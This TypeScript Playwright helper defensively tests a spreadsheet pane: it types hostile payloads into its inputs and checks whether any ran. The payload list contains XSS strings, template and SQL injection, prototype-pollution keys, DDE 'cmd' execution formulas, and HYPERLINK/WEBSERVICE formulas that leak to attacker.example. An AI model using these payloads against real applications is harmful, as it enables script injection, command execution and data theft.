/**
 * Hostile text typed into the pane (issue 17's attack): script and HTML injection, formula injection, huge
 * strings, bidi and zero-width characters, prototype keys. Shared by the browser test and `npm run attack`.
 * Each payload that would run would set `window.__attack`, add an element with `data-attack`, open a dialog or
 * request https://attacker.example; the caller's harness records page errors, console errors and off-origin
 * requests.
 */
import type { Page } from "playwright-core";

const OFF = "https://attacker.example";
export const HOSTILE_PAYLOADS: string[] = [
  `<script>window.__attack=1</script>`,
  `<img src=x onerror="window.__attack=1;alert(1)" data-attack>`,
  `"><svg onload=window.__attack=1 data-attack>`,
  `'><iframe src="${OFF}/frame" data-attack></iframe>`,
  `<a href="javascript:window.__attack=1" data-attack>click</a>`,
  `<link rel=stylesheet href="${OFF}/x.css"><style>@import url(${OFF}/y.css)</style>`,
  `javascript:alert(document.domain)`,
  `{{constructor.constructor('window.__attack=1')()}}`,
  "${alert(1)}`${window.__attack=1}`",
  `=HYPERLINK("${OFF}/leak?"&A1,"click me")`,
  `=WEBSERVICE("${OFF}/leak")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
  `=AICHIP.SPEC("<img src=x onerror=window.__attack=1 data-attack>","FP16")`,
  `=AICHIP.SPEC("${"A".repeat(5000)}","FP16")`,
  `${"910C ".repeat(20_000)}`,
  `\u202Egnp.exe\u202C 910C \u2066RTL\u2069`,
  `\u200B\u200C\u200D\uFEFF910C\u2060`,
  `__proto__`,
  `constructor.prototype.polluted`,
  `'; DROP TABLE facts; --`,
  `line one\r\nline two\u2028line three\u0000`,
  `＝ＳＵＭ（１，２）<ｓｃｒｉｐｔ>`,
  `👩‍💻🔥${"\u0301".repeat(200)}Z̷̢̛͎a̸l̶g̵o̴`,
];

export interface PaneAttack {
  payloads: number;
  /** Where each payload was typed (search box, name box, formula bar into a cell, the builder's chip box). */
  inputs: number;
  dialogs: string[];
  /** Signs that a payload ran: window.__attack set, an element with data-attack. */
  injected: string[];
}

const rendered = (page: Page) => page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve(null)))));

/** A payload as a short label, for reports (never the whole of a huge one). */
export const payloadLabel = (p: string) => JSON.stringify(p.length > 40 ? `${p.slice(0, 40)}…(${p.length} characters)` : p);

/**
 * Types every payload into the pane's inputs, waiting for each to be handled, and reports what ran.
 * `onStep` hears how long each step took (the attack script reports slow ones; tests assert no timing).
 */
export async function attackPane(page: Page, payloads: readonly string[] = HOSTILE_PAYLOADS, onStep?: (step: string, ms: number) => void): Promise<PaneAttack> {
  const step = async (name: string, action: () => Promise<unknown>) => {
    const started = Date.now();
    await action();
    onStep?.(name, Date.now() - started);
  };
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  const search = page.getByRole("searchbox", { name: /Search/ });
  const nameBox = page.getByRole("textbox", { name: "Cell address" });
  const bar = page.getByRole("textbox", { name: "Formula bar" });
  let inputs = 0;
  for (const [i, payload] of payloads.entries()) {
    const label = payloadLabel(payload);
    await step(`search ${label}`, async () => {
      await search.fill(payload);
      await page
        .getByRole("status")
        .filter({ hasText: /\d+ results?|Nothing matches\./ })
        .first()
        .waitFor();
    });
    await step(`name box ${label}`, async () => {
      await nameBox.fill(payload);
      await nameBox.press("Enter");
    });
    const address = `A${i + 1}`;
    await step(`formula bar into ${address} ${label}`, async () => {
      await nameBox.fill(address);
      await nameBox.press("Enter");
      await bar.fill(payload);
      await bar.press("Enter");
      // The cell holds the payload (or its answer): its text or its formula tooltip is no longer empty.
      await page.waitForFunction((a) => {
        const td = document.querySelector(`td[data-address="${a}"]`);
        return td !== null && ((td.textContent ?? "") !== "" || (td.getAttribute("title") ?? "") !== "");
      }, address);
    });
    inputs += 3;
  }
  await page.getByRole("tab", { name: "Formula builder" }).click();
  await page.getByRole("combobox", { name: "Function" }).selectOption("AICHIP.SPEC");
  const chip = page.getByRole("combobox", { name: /^chip/ });
  for (const payload of payloads) {
    await step(`builder chip ${payloadLabel(payload)}`, async () => {
      await chip.fill(payload);
      await rendered(page);
    });
    inputs++;
  }
  await rendered(page);
  const injected = await page.evaluate(() => [
    ...((window as unknown as { __attack?: unknown }).__attack !== undefined ? ["window.__attack was set"] : []),
    ...[...document.querySelectorAll("[data-attack]")].map((e) => `an injected <${e.tagName.toLowerCase()} data-attack>`),
    ...(({} as Record<string, unknown>).polluted !== undefined ? ["Object.prototype.polluted"] : []),
  ]);
  return { payloads: payloads.length, inputs, dialogs, injected };
}
